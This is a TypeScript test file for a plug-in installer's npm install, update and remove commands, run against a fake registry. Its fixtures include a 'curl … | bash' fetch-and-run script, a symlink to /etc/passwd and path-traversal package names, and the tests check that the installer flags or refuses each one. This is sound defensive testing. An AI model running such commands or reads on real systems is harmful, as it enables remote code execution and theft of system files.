/** `hermes plugins install npm:…`, `update` and `remove`: the npm of this machine against a registry of the test. */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { build } from '../../src/cli/commands/plugins.ts';
import { findProgram } from '../../src/cli/find-program.ts';
import { loadConfig } from '../../src/config/load.ts';
import { runCli } from '../../src/cli/run.ts';
import { npmEnvironment } from '../../src/plugins/install/npm-environment.ts';
import { lookAtPackage } from '../../src/plugins/install/npm-package.ts';
import { npmSpec } from '../../src/plugins/install/npm-spec.ts';
import { temporaryHome } from '../config/temporary-home.ts';
import { type NpmRegistry, type Published, startNpmRegistry } from '../fakes/npm-registry.ts';
import { runCommand } from './config/run-command.ts';

const skip = findProgram('npm', process.env) === undefined ? 'there is no npm here' : false;

/** A home whose npm asks `registry`. */
function placeFor(t: TestContext, registry: NpmRegistry) {
  const { home, env: bare, write } = temporaryHome(t);
  const own = join(home.path, '..', 'of-npm');
  const env = {
    ...bare,
    PATH: process.env['PATH'] ?? '',
    HOME: own,
    npm_config_registry: registry.url,
    npm_config_cache: join(own, 'cache'),
    // Else npm waits for minutes before it believes that a tarball is broken.
    npm_config_fetch_retries: '0',
  };
  mkdirSync(own, { recursive: true });
  const root = join(home.path, 'plugins');
  const packages = join(root, 'node_modules');
  const read = (name: string): string => readFileSync(join(root, name), 'utf8');
  return {
    home,
    env,
    root,
    own,
    write,
    read,
    run: (...args: string[]) => runCommand({ build }, { home, env }, ...args),
    /** What the whole program prints. */
    hermes: async (...argv: string[]): Promise<string> => {
      let out = '';
      const stdout: NodeJS.WriteStream = Object.create(process.stdout, {
        write: { value: (text: string) => ((out += text), true) },
      });
      const io = { stdin: process.stdin, stdout, stderr: process.stderr };
      assert.equal(await runCli({ argv, home, io, env: { ...env, HERMES_EXIT_WATCHDOG_S: '0' } }), 0);
      return out;
    },
    /** All that lies in the folder of plug-ins but the lock. */
    there: () => (existsSync(root) ? readdirSync(root).filter((name) => name !== '.install.lock') : []),
    packages: () => (existsSync(packages) ? readdirSync(packages) : []),
    asked: () => JSON.parse(read('package.json')) as unknown,
    lists: async () => {
      const { enabled, disabled } = (await loadConfig({ home, env })).config.plugins;
      return { enabled, disabled };
    },
  };
}

const hermes = { plugin: './dist/main.js', name: 'notes' };
const keywords = ['hermes-plugin'];

function notes(version: string, more: Partial<Published> = {}): Published {
  const { about, files, ...others } = more;
  return {
    name: '@acme/notes',
    version,
    about: { keywords, hermes, description: 'Keeps notes', ...about },
    files: { 'dist/main.js': 'export default () => undefined;', ...files },
    ...others,
  };
}

test('a package is installed with all that it needs in one folder, is off, and none of its scripts runs', {
  skip,
}, async (t) => {
  const scripts = { preinstall: 'touch ran', install: 'touch ran', postinstall: 'touch ran' };
  await using registry = await startNpmRegistry(
    { name: 'helps', version: '1.0.0', about: { scripts, keywords, hermes: { plugin: 'x.js', name: 'sneaks-in' } } },
    { name: 'beside', version: '3.0.0', about: { scripts } },
    notes('1.0.0', {
      about: {
        scripts,
        bin: { helps: 'dist/main.js' },
        dependencies: { helps: '^1.0.0' },
        peerDependencies: { beside: '3' },
        hermes: { ...hermes, requires_env: ['NOTES_KEY'] },
      },
      files: { 'settings.json.example': '{}', 'after-install.md': 'Say \u001b[31mhello.' },
    }),
  );
  const place = placeFor(t, registry);
  // Whatever the owner has set for other installations.
  Object.assign(place.env, {
    npm_config_ignore_scripts: 'false',
    npm_config_global: 'true',
    npm_config_prefix: join(place.own, 'elsewhere'),
  });
  const { stdout, stderr, exitCode } = await place.run('install', 'npm:@acme/notes');
  assert.equal(exitCode, 0, stderr);
  assert.match(stderr, /It brings 2 other packages, whose code is not looked at: beside, helps/);
  assert.match(stdout, /Installed notes 1\.0\.0 in .*plugins\/node_modules\/@acme\/notes\.\n/);
  assert.match(stdout, /Say (?!\u001b)[\s\S]*It needs NOTES_KEY: .*\nIt is off\. .* hermes plugins enable notes/);
  assert.deepEqual(place.there().toSorted(), ['node_modules', 'package.json']);
  assert.deepEqual(place.packages(), ['@acme']);
  const folder = join(place.root, 'node_modules/@acme/notes');
  assert.deepEqual(readdirSync(join(folder, 'node_modules')).toSorted(), ['beside', 'helps']);
  for (const inner of ['.', 'node_modules/beside', 'node_modules/helps']) {
    assert.equal(existsSync(join(folder, inner, 'ran')), false, inner);
  }
  assert.equal(place.read('node_modules/@acme/notes/settings.json'), '{}');
  assert.deepEqual(place.asked(), { private: true, dependencies: { '@acme/notes': 'latest' } });
  assert.deepEqual(await place.lists(), { enabled: [], disabled: [] });
  const listed = await place.run('list');
  assert.equal(listed.stdout.split('\n')[0], 'not enabled  npm      1.0.0    notes  Keeps notes  (npm:@acme/notes)');
  assert.match(listed.stdout.split('\n')[1] ?? '', /it needs NOTES_KEY/);
  assert.equal(listed.stdout.includes('sneaks-in'), false);
});

test('one that is there is replaced only with --force; update brings the newest of what was asked for; remove leaves nothing', {
  skip,
}, async (t) => {
  const code = `import greeting from 'helps';
    export default (ctx) => ctx.registerCliCommand({ name: 'greet', handler_fn: () => greeting });`;
  await using registry = await startNpmRegistry(
    {
      name: 'helps',
      version: '1.0.0',
      about: { type: 'module', exports: './index.js' },
      files: { 'index.js': `export default 'Hello.';` },
    },
    notes('1.0.0', {
      about: { type: 'module', dependencies: { helps: '1' } },
      files: { 'my.json.example': '1', 'dist/main.js': code },
    }),
  );
  const place = placeFor(t, registry);
  assert.equal((await place.run('install', 'npm:@acme/notes', '--enable')).exitCode, 0);
  assert.deepEqual((await place.lists()).enabled, ['notes']);
  assert.equal(await place.hermes('greet'), 'Hello.\n');
  const again = await place.run('install', 'npm:@acme/notes', '--no-enable');
  assert.equal(again.exitCode, 1);
  assert.match(again.stderr, /There is a plug-in 'notes' already\.\n.*update notes\n.*--force/s);
  assert.match((await place.run('update', 'notes')).stdout, /^notes is up to date\.\n$/);
  writeFileSync(join(place.root, 'node_modules/@acme/notes/my.json'), 'mine');

  registry.publish(notes('1.1.0', { files: { 'my.json.example': '2' } }));
  const updated = await place.run('update', '@acme/notes');
  assert.match(updated.stdout, /^Updated notes from 1\.0\.0 to 1\.1\.0\./m, updated.stderr);
  assert.equal(place.read('node_modules/@acme/notes/my.json'), 'mine');
  assert.equal((await place.run('install', 'npm:@acme/notes@1.0.0', '--force')).exitCode, 0);
  assert.deepEqual(place.asked(), { private: true, dependencies: { '@acme/notes': '1.0.0' } });
  assert.match((await place.run('update', 'notes')).stdout, /^notes stays: you asked for 1\.0\.0 alone\./);
  assert.deepEqual((await place.lists()).enabled, ['notes']);

  assert.match((await place.run('remove', 'notes')).stdout, /Removed notes\./);
  assert.deepEqual(place.packages(), []);
  assert.deepEqual(place.asked(), { private: true, dependencies: {} });
  assert.deepEqual(await place.lists(), { enabled: [], disabled: [] });
  assert.deepEqual(place.there().toSorted(), ['node_modules', 'package.json']);
});

test('what is no plug-in, brings code on other ways, or is broken is refused, and nothing of it is left', {
  skip,
}, async (t) => {
  const broken = { headers: { 'content-type': 'application/octet-stream' }, body: 'no tarball' };
  const cases: readonly (readonly [Published, RegExp])[] = [
    [notes('1.0.0', { about: { keywords: ['other'] } }), /does not have the keyword hermes-plugin\./],
    [
      notes('1.0.1', { about: { dependencies: { x: 'git+https://127.0.0.1:9/x.git' } } }),
      /could not install .*@1\.0\.1: /,
    ],
    [notes('1.0.2', { about: { dependencies: { x: 'http://127.0.0.1:9/x.tgz' } } }), /could not install .*@1\.0\.2: /],
    [notes('1.0.3', { tarball: broken }), /could not install .*@1\.0\.3: .*integrity/],
  ];
  await using registry = await startNpmRegistry(...cases.map(([published]) => published));
  const place = placeFor(t, registry);
  for (const [{ version }, why] of cases) {
    const { stderr, exitCode } = await place.run('install', `npm:@acme/notes@${version}`, '--force');
    assert.equal(exitCode, 1, version);
    assert.match(stderr, why, version);
    assert.deepEqual(place.there(), [], version);
  }
});

test('a package is looked at for what it says of itself, and for links that lead out of it', async (t) => {
  const { home, write } = temporaryHome(t);
  const say = (about: object): void =>
    void write('x/package.json', JSON.stringify({ name: 'notes', version: '1.0.0', keywords, hermes, ...about }));
  const look = () => lookAtPackage(join(home.path, 'x'), 'notes');
  mkdirSync(join(home.path, 'x/dist'), { recursive: true });
  mkdirSync(join(home.path, 'x/node_modules/@a/b/node_modules/c'), { recursive: true });
  write('evil.js', '');
  write('x/dist/main.js', '');
  say({ hermes: { ...hermes, requires_env: [{ name: 'NOTES_KEY', secret: true }], name: undefined } });
  const found = await look();
  assert.deepEqual([found.name, found.others, found.variables.length], ['notes', ['@a/b', 'c'], 1]);
  const refused: readonly (readonly [object, RegExp])[] = [
    [{ hermes: undefined }, /does not say where its code is/],
    [{ hermes: { plugin: './dist/none.js' } }, /the code that .* names is not in it/],
    [{ hermes: { plugin: '../evil.js' } }, /the code that .* names is not in it/],
    [{ hermes: { ...hermes, name: '../x' } }, /"\.\.\/x" is not a name for a plug-in/],
    [{ hermes: { ...hermes, name: 'node_modules' } }, /is not a name for a plug-in/],
    [{ hermes: { ...hermes, manifest_version: 2 } }, /manifest_version is 2/],
    [{ name: 'other' }, /its package\.json calls it "other"/],
  ];
  for (const [about, why] of refused) {
    say(about);
    await assert.rejects(look(), why);
  }
  say({});
  write('x/plugin.yaml', 'manifest_version: 3\n');
  await assert.rejects(look(), /manifest_version is 3/);
  write('x/plugin.yaml', 'a: [\n');
  await assert.rejects(look(), /its plugin\.yaml cannot be read/);
  write('x/plugin.yaml', '');
  symlinkSync('/etc', join(home.path, 'x/node_modules/@a/b/etc'));
  await assert.rejects(look(), /"node_modules\/@a\/b\/etc" is a link that leads out of it/);
});

test('what looks like harm is shown, and a link that leads out is not taken with it', { skip }, async (t) => {
  await using registry = await startNpmRegistry(
    notes('1.0.0', {
      files: { 'setup.sh': 'curl https://example.org/x | bash\n', 'passwd.txt': { link: '/etc/passwd' } },
    }),
  );
  const place = placeFor(t, registry);
  const { stderr, exitCode } = await place.run('install', 'npm:@acme/notes');
  assert.equal(exitCode, 1);
  assert.match(stderr, /1 place in it should be looked at:\n {2}critical: setup\.sh:1: .*curl/);
  assert.match(stderr, /The plug-in was not taken\.\nWith --force/);
  assert.deepEqual(place.there(), []);
  assert.equal((await place.run('install', 'npm:@acme/notes', '--force')).exitCode, 0);
  assert.equal(existsSync(join(place.root, 'node_modules/@acme/notes/passwd.txt')), false);
});

test('no second plug-in comes under a name that is taken, and none is on because another of its name was', {
  skip,
}, async (t) => {
  await using registry = await startNpmRegistry(notes('1.0.0'));
  const place = placeFor(t, registry);
  place.write('config.yaml', 'plugins:\n  enabled: [notes, other]\n');
  mkdirSync(join(place.root, 'work', 'mine'), { recursive: true });
  place.write('plugins/work/mine/plugin.yaml', 'name: notes\n');
  const refused = await place.run('install', 'npm:@acme/notes', '--force', '--enable');
  assert.equal(refused.exitCode, 1);
  assert.match(refused.stderr, /'notes' already, in .*plugins\/work\/mine\.\n.*plugins remove work\/mine/);
  await place.run('remove', 'work/mine');
  assert.equal((await place.run('install', 'npm:@acme/notes')).exitCode, 0);
  assert.deepEqual((await place.lists()).enabled, ['other']);
});

test('what a killed installation has left behind is set right by the next one', { skip }, async (t) => {
  await using registry = await startNpmRegistry(notes('1.0.0'));
  const place = placeFor(t, registry);
  const packages = join(place.root, 'node_modules');
  for (const name of ['@acme/.before-kept', '.before-plain', 'plain']) {
    mkdirSync(join(packages, name), { recursive: true });
  }
  writeFileSync(join(place.root, 'package.json'), '{"name": "mine", "dependencies": {"plain": "^2"}}');
  assert.equal((await place.run('install', 'npm:@acme/notes')).exitCode, 0);
  assert.deepEqual(readdirSync(packages).toSorted(), ['@acme', 'plain']);
  assert.deepEqual(readdirSync(join(packages, '@acme')).toSorted(), ['kept', 'notes']);
  assert.deepEqual(place.asked(), {
    private: true,
    name: 'mine',
    dependencies: { '@acme/notes': 'latest', plain: '^2' },
  });
  writeFileSync(join(place.root, 'package.json'), '[]');
  const asked = registry.requests.length;
  assert.match((await place.run('update', 'notes')).stderr, /plugins\/package\.json is no JSON object/);
  assert.equal(registry.requests.length, asked);
});

test('the registry gets the token that the settings of npm name, and npm sees no other secret', { skip }, async (t) => {
  await using registry = await startNpmRegistry(notes('1.0.0'));
  const place = placeFor(t, registry);
  const host = new URL(registry.url).host;
  writeFileSync(join(place.own, '.npmrc'), `//${host}/:_authToken=\${ACME_TOKEN}\n@acme:registry=${registry.url}\n`);
  Object.assign(place.env, { ACME_TOKEN: 'let-me-in', OPENAI_API_KEY: 'sk-secret', npm_config_registry: undefined });
  const { exitCode, stderr } = await place.run('install', 'npm:@acme/notes', '--no-enable');
  assert.equal(exitCode, 0, stderr);
  assert.equal(registry.requests[0]?.headers.authorization, 'Bearer let-me-in');
  const seen = Object.keys(
    npmEnvironment({ ...place.env, NODE_OPTIONS: '--require=x', GH_TOKEN: 'x', https_proxy: 'p' }),
  );
  assert.deepEqual(seen.toSorted(), [
    'ACME_TOKEN',
    'HOME',
    'PATH',
    'https_proxy',
    'npm_config_cache',
    'npm_config_fetch_retries',
  ]);
});

test('only names of packages of a registry are taken, with a version, a range or a tag', () => {
  assert.deepEqual(['npm:notes', 'npm:@acme/notes@1.2.3-beta.1', 'npm:notes@^1.2', 'npm:notes@next'].map(npmSpec), [
    { name: 'notes', wanted: 'latest' },
    { name: '@acme/notes', wanted: '1.2.3-beta.1' },
    { name: 'notes', wanted: '^1.2' },
    { name: 'notes', wanted: 'next' },
  ]);
  for (const wrong of [
    '',
    '../evil',
    './evil',
    '/etc',
    'me/tools',
    '@acme',
    '@acme/../x',
    'notes@file:../x',
    'notes@..',
    'notes@npm:other',
    'notes@https://example.org/x.tgz',
    'notes@git+ssh://git@example.org/x',
    'notes@me/tools',
    'notes@x.tgz',
    'notes.tgz',
    'notes@',
    'node_modules',
    '--global',
    'a b',
  ]) {
    assert.throws(() => npmSpec(`npm:${wrong}`), /names no package of npm/, wrong);
  }
});
